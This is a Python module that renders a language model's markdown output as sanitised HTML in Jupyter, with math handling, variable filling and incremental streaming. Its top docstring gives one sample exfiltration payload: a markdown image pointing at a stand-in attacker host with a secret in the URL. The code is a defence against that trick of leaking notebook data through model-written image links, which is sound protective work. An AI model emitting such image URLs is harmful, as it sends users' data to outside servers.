r"""The response as HTML: safe markdown, math kept as math, ``$name`` filled in, streamed cheaply.

Safety: markdown-it-py's CommonMark with raw HTML off, so ``<script>`` written by the
model comes out as text; links only with ``http``, ``https``, ``mailto`` or no scheme at
all. Images are not loaded unless they are inline ``data:image/{png,jpeg,gif,webp}``:
any other image (``![chart](https://attacker.example/p.png?c=secret)``, the classic way
to send notebook data to a server) becomes a link with its alt text, ``🖼 chart``. Code
is highlighted by Pygments into inline styles, so a saved notebook shows colours with no
stylesheet.

Dollars (the rule, also in ``fill_references`` for plain text; the README states it):

- Math, kept as written, never filled:
  ``$...$`` when the opening ``$`` has a non-space character right after it and the next
  ``$`` (not ``\$``) a non-space character right before it and no digit right after it
  (pandoc's rule: ``$x$``, ``the $n$th`` are math; ``$5 and $10``, ``$5-$10``,
  ``US$ 3`` are not); ``$$...$$`` when a closing ``$$`` follows in the same paragraph,
  not followed by a letter, digit or ``_``; ``\(...\)`` and ``\[...\]`` (as in a Jupyter
  markdown cell). A formula never holds a blank line, a backtick (code wins) or ``](``
  (a link wins), and one that starts with a digit never holds a space followed by a
  letter (that is prices: ``$10 versus US$ 8``; ``$2x + 1$`` is math).
- A ``$$`` that opens no display math is a literal ``$`` (the protocol's escape:
  ``$$HOME``, ``costs $$5``); ``\$`` is a literal ``$``.
- Otherwise ``$name`` / ``$name.key`` (``REFERENCE``, the runtime's pattern) shows the
  value's short ``str`` when ``values`` has it (the longest resolvable part of a dotted
  path, so ``see $report.`` works) and stays as written when not.
- Code spans and blocks are never math and never filled.

Math in the HTML: each formula is ``<span class="cortex-math">`` holding the formula with
its own delimiters (``$x$``, ``$$E=mc^2$$``, ``\(x\)``), which JupyterLab / Notebook 7's
MathJax typesets (inline ``$``/``\(``, display ``$$``/``\[``) in text/html outputs and in an
``ipywidgets.HTMLMath``; where no MathJax runs (GitHub, VS Code) it reads as written.
Every other ``$`` and ``\`` in text, and in filled values, is an entity inside
``<span class="mathjax_ignore tex2jax_ignore">``: MathJax 3 breaks its search at element
boundaries and skips that class (MathJax 2 the second), so ``costs $5 and $10`` is never
typeset, and it still reads ``$`` everywhere. The live view must show this HTML with
``ipywidgets.HTMLMath`` (plain ``HTML`` does not typeset). A formula never spans two
blocks, so cutting the HTML at ``cached_html`` never splits one.

Streaming: rendering a 16 KB document costs ~35 ms (NOTES.md), and a reply is redrawn up
to 25 times a second, so ``IncrementalMarkdown`` renders finished blocks once and on each
update re-parses only the tail. A block is finished when the next top-level block starts
on a complete line after a blank line: CommonMark can then no longer change it (nothing
re-opens a closed block after a blank line, and the next block's start line is fixed;
math is inline, inside one block). Two things reach across blocks and are handled by
starting over: link reference definitions (``[x]: url`` anywhere defines ``[x]``
everywhere) and ``$name`` values that changed since a block was cached. The output
equals a full render at every step; the tests check that over many chunkings.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Literal

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.rules_core import StateCore
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from cortex_jupyter.runtime.bounded import BoundedRepr
from cortex_jupyter.runtime.variables import REFERENCE, resolve

from . import theme
from .theme import clean, esc

#: The class of the ``<span>`` around each formula; its text is the formula with its
#: delimiters, for the front end's MathJax (render the response with ``HTMLMath``).
MATH_CLASS = "cortex-math"
#: The class of the ``<span>`` around each ``$`` or ``\`` that is text: MathJax 3
#: (``mathjax_ignore``) and MathJax 2 (``tex2jax_ignore``) leave it alone.
LITERAL_CLASS = "mathjax_ignore tex2jax_ignore"
_LITERAL = {
    ord("$"): f'<span class="{LITERAL_CLASS}">&#36;</span>',
    ord("\\"): f'<span class="{LITERAL_CLASS}">&#92;</span>',
}
IMAGE_MARK = "🖼"  # before the alt text of an image shown as a link

_SAFE_SCHEME = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
_SAFE_IMAGE_DATA = re.compile(r"^data:image/(?:gif|png|jpeg|webp);", re.IGNORECASE)
_HAS_SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_MAYBE_DEFINITION = re.compile(r"^ {0,3}\[", re.MULTILINE)
_MAX_HIGHLIGHT = 200_000  # characters; beyond this a code block is shown plain
_VALUE_LIMIT = 200

_PRE_CODE_STYLE = "background:none;color:inherit;padding:0"
_PRE_STYLE = (
    f"background:{theme.CODE_BG};color:{theme.TEXT};padding:8px 10px;border-radius:6px;"
    f"overflow-x:auto;font-family:{theme.MONO};font-size:12.5px;line-height:1.45;margin:0 0 1em"
)
_CODE_STYLE = (
    f"background:{theme.CODE_BG};color:{theme.TEXT};padding:0.1em 0.3em;border-radius:4px;"
    f"font-family:{theme.MONO};font-size:0.92em"
)
_LINK_REL = "noopener noreferrer nofollow"

_short = BoundedRepr(limit=_VALUE_LIMIT, items=10)


def short_str(value: Any, limit: int = _VALUE_LIMIT) -> str:
    """The text a ``$name`` shows: ``str`` of strings and scalars, a short repr of
    containers (never the ``str`` of a million-item list), cut to ``limit``."""
    try:
        if isinstance(value, str | int | float | bool) or value is None:
            text = str(value)
        elif isinstance(value, list | tuple | dict | set | frozenset | bytes | bytearray):
            text = _short.repr(value)  # never the str of a million items or bytes
        else:
            text = str(value)
    except Exception as exc:  # a broken __str__ must not break the response
        text = f"<{type(value).__name__} (str failed: {type(exc).__name__})>"
    return text if len(text) <= limit else text[: limit - 1] + "…"


# --------------------------------------------------------------------------- dollars

# What ends the search for a closing delimiter: the delimiter, or what a formula never
# holds: a backtick (a code span wins over math around it) or `](` (nor does a link:
# in `[see $x](u?q=$x)` the second `$` belongs to the URL). Escapes are skipped.
_DOLLAR_OR_ESCAPE = re.compile(r"\\[\s\S]|\$|`|\]\(")
_DOUBLE_OR_ESCAPE = re.compile(r"\\[\s\S]|\$\$|`|\]\(")
_ESCAPE = re.compile(r"\\[\s\S]|`|\]\(")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_SPACE_LETTER = re.compile(r"\s[^\W\d_]")
_SPECIAL = re.compile(r"[$\\]|`+|\]\([^)\s]*")
_BRACKETS = {"(": "\\)", "[": "\\]"}


@dataclass(frozen=True, slots=True)
class _Span:
    """What a ``$`` or ``\\`` at some position starts, and where that ends."""

    kind: Literal["math", "literal", "reference"]
    end: int
    opener: str = ""  # math: its delimiters and the formula between them
    closer: str = ""
    formula: str = ""
    name: str = ""  # reference: ``$name`` and its ``.path``
    path: str = ""


def _scan(src: str, pos: int, end: int) -> _Span | None:
    """The math, literal ``$`` or reference starting at ``src[pos]`` (a ``$`` or a
    backslash) within ``src[:end]``; ``None`` when it starts none of them (a lone ``$``,
    an ordinary backslash escape)."""
    if src[pos] == "\\":
        return _bracket_math(src, pos, end)
    if pos + 1 < end and src[pos + 1] == "$":
        close = _display_close(src, pos + 2, end)
        if close is None:
            return _Span("literal", pos + 2)  # the protocol's `$$`: a literal `$`
        return _Span("math", close + 2, "$$", "$$", src[pos + 2 : close])
    close = _inline_close(src, pos + 1, end)
    if close is not None:
        return _Span("math", close + 1, "$", "$", src[pos + 1 : close])
    match = REFERENCE.match(src, pos, end)
    if match is not None and match.group(1):
        return _Span("reference", match.end(), name=match.group(1), path=match.group(2))
    return None


def _inline_close(src: str, start: int, end: int) -> int | None:
    """Where the ``$`` closing inline math opened just before ``start`` is: pandoc's
    rule (no space inside either delimiter, no digit after the closing one), and a
    formula that starts with a digit has no space followed by a letter (prices)."""
    if start >= end or src[start].isspace():
        return None
    for match in _DOLLAR_OR_ESCAPE.finditer(src, start, end):
        if match.group() != "$":
            if match.group()[0] == "\\":
                continue  # an escaped character, `\$` included
            return None
        at = match.start()
        after = src[at + 1] if at + 1 < end else ""
        if src[at - 1].isspace() or "0" <= after <= "9" or _BLANK_LINE.search(src, start, at):
            return None
        if _price(src, start, at):
            return None
        return at
    return None


def _price(src: str, start: int, end: int) -> bool:
    """Whether a formula ``src[start:end]`` is rather prose about prices: it starts with
    a digit and has a space followed by a letter (``$10 versus US$``, ``$$5; a $$``)."""
    return "0" <= src[start] <= "9" and _SPACE_LETTER.search(src, start, end) is not None


def _display_close(src: str, start: int, end: int) -> int | None:
    """Where the ``$$`` closing display math opened just before ``start`` is."""
    for match in _DOUBLE_OR_ESCAPE.finditer(src, start, end):
        if match.group() != "$$":
            if match.group()[0] == "\\":
                continue
            return None
        at = match.start()
        after = src[at + 2] if at + 2 < end else ""
        formula = src[start:at]
        if not formula.strip() or after.isalnum() or after == "_" or _BLANK_LINE.search(formula):
            return None
        if _price(src, start, at):
            return None
        return at
    return None


def _bracket_math(src: str, pos: int, end: int) -> _Span | None:
    r"""``\(...\)`` or ``\[...\]`` starting at ``pos``. The search stops at the next
    opener, so a text full of unclosed ``\(`` costs linear time, not quadratic."""
    closer = _BRACKETS.get(src[pos + 1]) if pos + 1 < end else None
    if closer is None:
        return None
    for match in _ESCAPE.finditer(src, pos + 2, end):
        pair = match.group()
        if pair == closer:
            formula = src[pos + 2 : match.start()]
            if not formula.strip() or _BLANK_LINE.search(formula):
                return None
            return _Span("math", match.end(), src[pos : pos + 2], closer, formula)
        if pair in ("\\(", "\\[", "`", "]("):
            return None
    return None


def fill_references(text: str, values: Mapping[str, Any]) -> tuple[str, dict[str, str | None]]:
    """``text`` (plain text, not HTML) with each ``$name[.path]`` that ``values`` can
    resolve replaced, by the same rule as the HTML: math, code (backtick spans and
    fences) and link addresses stay as written, a ``$$`` that opens no display math is
    ``$``, ``\\$`` and other escapes are kept.

    Returns the new text and what each reference showed (``None``: left as written),
    which is how a cache knows when a value change makes its HTML stale. The longest
    resolvable part of a dotted path is used, so ``see $report.`` or
    ``$report.Then`` still show ``report``.
    """
    used: dict[str, str | None] = {}
    out: list[str] = []
    done = pos = 0
    end = len(text)
    while (found := _SPECIAL.search(text, pos)) is not None:
        at = found.start()
        if text[at] == "`":  # code (a span, or a fenced block): skipped whole
            close = _backticks(len(found.group())).search(text, found.end())
            pos = found.end() if close is None else close.end()
            continue
        if text[at] == "]":  # a link's address: kept as written
            pos = found.end()
            continue
        span = _scan(text, at, end)
        if span is None:
            pos = at + (2 if text[at] == "\\" else 1)  # an escape pair is kept as it is
            continue
        if span.kind == "literal":
            out += [text[done:at], "$"]
            done = span.end
        elif span.kind == "reference":
            out += [text[done:at], _show(span.name, span.path, values, used)]
            done = span.end
        pos = span.end
    out.append(text[done:])
    return "".join(out), used


@functools.lru_cache(maxsize=16)
def _backticks(count: int) -> re.Pattern[str]:
    """A run of exactly ``count`` backticks: what closes a code span opened by one."""
    return re.compile(rf"(?<!`)`{{{count}}}(?!`)")


def _show(name: str, path: str, values: Mapping[str, Any], used: dict[str, str | None]) -> str:
    """What ``$name.path`` shows: the value of its longest resolvable part, then the
    rest of the path as written; the reference as written when nothing resolves."""
    parts = path.split(".")[1:]
    for keep in range(len(parts), -1, -1):
        ref = ".".join([name, *parts[:keep]])
        shown = _lookup(ref, values)
        used[ref] = shown
        if shown is not None:
            return shown + "".join("." + p for p in parts[keep:])
    return f"${name}{path}"


def _lookup(ref: str, values: Mapping[str, Any]) -> str | None:
    if ref.split(".", 1)[0] not in values:
        return None
    try:
        return short_str(resolve("$" + ref, [values]))
    except Exception:  # BadReference, or a property that raised: show the name as written
        return None


def _math_html(opener: str, formula: str, closer: str) -> str:
    return f'<span class="{MATH_CLASS}">{opener}{escapeHtml(formula)}{closer}</span>'


def _text_html(text: str) -> str:
    """Escaped text whose ``$`` and ``\\`` MathJax will not read as math."""
    html = escapeHtml(text)
    return html.translate(_LITERAL) if ("$" in html or "\\" in html) else html


# --------------------------------------------------------------------------- code


class _Highlighter:
    """Pygments with inline styles; lexers are looked up once per language name."""

    def __init__(self) -> None:
        self._formatter = HtmlFormatter(nowrap=True, noclasses=True, style=theme.PYGMENTS_STYLE)
        self._lexers: dict[str, Lexer | None] = {}

    def __call__(self, code: str, lang: str) -> str:
        lexer = self._lexer(lang) if lang and len(code) <= _MAX_HIGHLIGHT else None
        inner = esc(code) if lexer is None else pygments_highlight(code, lexer, self._formatter)
        label = f' data-lang="{esc(lang)}"' if lang else ""
        # The inner <code> is styled too: JupyterLab's dark theme paints a bare one black.
        code = f'<code style="{_PRE_CODE_STYLE}">{inner}</code>'
        return f'<pre style="{_PRE_STYLE}"{label}>{code}</pre>\n'

    def _lexer(self, lang: str) -> Lexer | None:
        key = lang.lower()
        if key not in self._lexers:
            try:
                self._lexers[key] = get_lexer_by_name(key, stripnl=False, ensurenl=False)
            except ClassNotFound:
                self._lexers[key] = None
        return self._lexers[key]


# --------------------------------------------------------------------------- the parser


def _validate_link(url: str) -> bool:
    url = url.strip()
    if _SAFE_SCHEME.match(url) or _SAFE_IMAGE_DATA.match(url):
        return True
    return not _HAS_SCHEME.match(url)  # relative links and anchors carry no scheme


def _dollars(state: StateInline, silent: bool) -> bool:
    """Inline rule: math, the protocol's ``$$`` and ``$name`` references (see the
    module's docstring). Runs before the escape rule, which would read ``\\(`` as ``(``."""
    src, pos = state.src, state.pos
    if src[pos] != "$" and src[pos] != "\\":
        return False
    span = _scan(src, pos, state.posMax)
    if span is None:
        return False
    if not silent:
        if span.kind == "math":
            token = state.push("math", "", 0)
            token.content, token.markup, token.info = span.formula, span.opener, span.closer
        elif span.kind == "literal":
            state.pending += "$"
        else:
            token = state.push("cortex_ref", "", 0)
            token.content = f"${span.name}{span.path}"
            token.meta = {"name": span.name, "path": span.path}
    state.pos = span.end
    return True


def _fill_values(state: StateCore) -> None:
    """Core rule: each ``$name`` reference becomes the text it shows, from
    ``env["cortex_values"]``; ``env["cortex_used"]`` records what each showed. Images
    inside a link are marked (``meta["in_link"]``) for the renderer."""
    values = state.env.get("cortex_values") or {}
    used = state.env.setdefault("cortex_used", {})
    for token in state.tokens:
        if token.type != "inline" or not token.children:
            continue
        if "$" in token.content:
            _fill_tokens(token.children, values, used)
        if "![" in token.content:
            _mark_images_in_links(token.children)


def _fill_tokens(
    tokens: Sequence[Token], values: Mapping[str, Any], used: dict[str, str | None]
) -> None:
    for token in tokens:
        if token.type == "cortex_ref":
            token.type = "text"  # shown as text: escaped, never parsed or typeset
            token.content = _show(token.meta["name"], token.meta["path"], values, used)
        elif token.children:  # an image's alt text
            _fill_tokens(token.children, values, used)


def _alt_text(tokens: Sequence[Token] | None) -> str:
    """An image's alt text, markup dropped (CommonMark), math kept as written."""
    out: list[str] = []
    for token in tokens or ():
        if token.type in ("text", "code_inline"):
            out.append(token.content)
        elif token.type == "math":
            out.append(f"{token.markup}{token.content}{token.info}")
        elif token.type in ("softbreak", "hardbreak"):
            out.append(" ")
        elif token.children:
            out.append(_alt_text(token.children))
    return "".join(out)


def _alt_tokens(tokens: Sequence[Token] | None) -> list[Token]:
    """An image's alt text as tokens to render inside the link that stands for it:
    links and images in it give only their text (no ``<a>`` inside an ``<a>``)."""
    out: list[Token] = []
    for token in tokens or ():
        if token.type == "image":
            out += _alt_tokens(token.children)
        elif token.type not in ("link_open", "link_close"):
            out.append(token)
    return out


def _mark_images_in_links(tokens: Sequence[Token]) -> None:
    depth = 0
    for token in tokens:
        depth += (token.type == "link_open") - (token.type == "link_close")
        if token.type == "image" and depth > 0:
            token.meta["in_link"] = True


def make_parser(highlight: bool = True) -> MarkdownIt:
    """A markdown-it parser with our safety settings, tables, strikethrough, code, math
    and ``$name`` references."""
    md = MarkdownIt("commonmark", {"html": False})
    md.enable(["table", "strikethrough"])
    md.validateLink = _validate_link  # type: ignore[method-assign]
    md.inline.ruler.before("escape", "cortex_dollars", _dollars)
    md.core.ruler.after("text_join", "cortex_values", _fill_values)
    highlighter = _Highlighter()

    def fence(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        lang = token.info.strip().split(maxsplit=1)[0] if token.info.strip() else ""
        return highlighter(token.content, lang if highlight else "")

    def code_block(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return highlighter(tokens[idx].content, "")

    def code_inline(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return f'<code style="{_CODE_STYLE}">{esc(tokens[idx].content)}</code>'

    def text(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return _text_html(tokens[idx].content)

    def math(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        return _math_html(token.markup, token.content, token.info)

    def link_open(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        # A click must not navigate the notebook's own page away.
        tokens[idx].attrSet("target", "_blank")
        tokens[idx].attrSet("rel", _LINK_REL)
        return str(self.renderToken(tokens, idx, options, env))

    def image(
        self: Any, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        token = tokens[idx]
        src = str(token.attrGet("src") or "")
        title = token.attrGet("title")
        if _SAFE_IMAGE_DATA.match(src):  # inline data: nothing is fetched
            extra = f' title="{escapeHtml(str(title))}"' if title else ""
            alt = escapeHtml(_alt_text(token.children))
            return f'<img src="{escapeHtml(src)}" alt="{alt}"{extra}>'
        # Anything else would be fetched by every reader's browser, with whatever the
        # model put in its URL: shown as a link to it instead, only followed on a click.
        alt = self.renderInline(_alt_tokens(token.children), options, env).strip() or "image"
        label = f"{IMAGE_MARK} {alt}"
        if token.meta.get("in_link"):  # the enclosing link is the link (no <a> in <a>)
            return label
        hint = escapeHtml(f"Image not loaded: {src}")
        return (
            f'<a href="{escapeHtml(src)}" target="_blank" rel="{_LINK_REL}" title="{hint}">'
            f"{label}</a>"
        )

    for name, rule in (
        ("fence", fence),
        ("code_block", code_block),
        ("code_inline", code_inline),
        ("text", text),
        ("math", math),
        ("link_open", link_open),
        ("image", image),
    ):
        md.add_render_rule(name, rule)
    return md


_default_parser: MarkdownIt | None = None


def render_markdown(text: str, values: Mapping[str, Any] | None = None) -> str:
    """The whole of ``text`` as HTML in one go (a saved snapshot, or a reference)."""
    global _default_parser
    if _default_parser is None:
        _default_parser = make_parser()
    env: dict[str, Any] = {"cortex_values": values or {}}
    return str(_default_parser.render(_normalize(text), env))


def _normalize(text: str) -> str:
    """What markdown-it does to its input first (line breaks), done up front so offsets
    agree, and the characters no HTML document may hold (control characters, lone
    surrogates, which would also break saving the notebook as UTF-8) replaced."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return clean(text)


# --------------------------------------------------------------------------- streaming


class IncrementalMarkdown:
    """Renders a growing markdown document, re-parsing only its unfinished tail.

    Call ``render(text, values)`` with the whole text so far on every redraw. Counters
    for the benchmark and the tests: ``renders`` (calls), ``restarts`` (full re-renders
    forced by a new link definition, a changed value or a text that is not an
    extension of the last one), ``parsed_chars`` (characters parsed, in total) and
    ``last_parsed`` (in the last call).
    """

    def __init__(self, parser: MarkdownIt | None = None) -> None:
        self._md = parser if parser is not None else make_parser()
        self.renders = 0
        self.restarts = 0
        self.parsed_chars = 0
        self.last_parsed = 0
        self.reset()

    def reset(self) -> None:
        """Forget every cached block."""
        self._done_src = ""
        self._done_html = ""  # the HTML of the cached (finished) blocks
        self._committed_refs: dict[str, Any] = {}  # link labels defined in cached blocks
        self._render_refs: dict[str, Any] = {}  # all labels the cached HTML was made with
        self._used: dict[str, str | None] = {}

    @property
    def cached_chars(self) -> int:
        """Characters of source whose HTML is cached (not parsed again)."""
        return len(self._done_src)

    @property
    def cached_html(self) -> str:
        """The HTML of the blocks already finished: settled until the next restart.

        Every ``render`` returns it as a prefix, so a view may send it once and then
        only what follows it.
        """
        return self._done_html

    def render(self, text: str, values: Mapping[str, Any] | None = None) -> str:
        self.renders += 1
        text = _normalize(text)
        values = values or {}
        if self._done_src and (not text.startswith(self._done_src) or self._stale(values)):
            self.restarts += 1
            self.reset()
        html = self._render_tail(text, values)
        if html is None:  # the tail defined a link label the cached blocks may use
            self.restarts += 1
            self.reset()
            html = self._render_tail(text, values)
            assert html is not None
        return html

    def _stale(self, values: Mapping[str, Any]) -> bool:
        return any(_lookup(ref, values) != shown for ref, shown in self._used.items())

    def _render_tail(self, text: str, values: Mapping[str, Any]) -> str | None:
        tail = text[len(self._done_src) :]
        env: dict[str, Any] = {
            "references": dict(self._committed_refs),
            "cortex_values": values,
            "cortex_used": {},
        }
        tokens = self._md.parse(tail, env)
        self.parsed_chars += len(tail)
        self.last_parsed = len(tail)
        if not self._done_src:
            self._render_refs = dict(env["references"])
        elif env["references"] != self._render_refs:
            return None  # a link label appeared or changed: cached blocks may use it
        cut = _finished(tokens, tail)
        options = self._md.options
        if cut is None:
            return self._done_html + str(self._md.renderer.render(tokens, options, env))
        index, offset = cut
        self._done_html += str(self._md.renderer.render(tokens[:index], options, env))
        self._commit(tail[:offset])
        self._used.update(env["cortex_used"])
        return self._done_html + str(self._md.renderer.render(tokens[index:], options, env))

    def _commit(self, source: str) -> None:
        self._done_src += source
        if _MAYBE_DEFINITION.search(source):
            env: dict[str, Any] = {"references": dict(self._committed_refs)}
            self._md.parse(source, env)
            self._committed_refs = env["references"]


def _finished(tokens: Sequence[Token], tail: str) -> tuple[int, int] | None:
    """Where the finished blocks of ``tail`` end: (token index, character offset).

    The cut goes before the last top-level block that starts on a complete line right
    after a blank line; ``None`` when there is no such block yet.
    """
    lines = tail.split("\n")
    complete = len(lines) - 1  # the last line may still be growing
    for index in range(len(tokens) - 1, 0, -1):
        token = tokens[index]
        if token.level != 0 or token.nesting == -1 or token.map is None:
            continue
        line = token.map[0]
        if 0 < line < complete and not lines[line - 1].strip(" \t"):
            offset = sum(len(lines[i]) + 1 for i in range(line))
            return index, offset
    return None
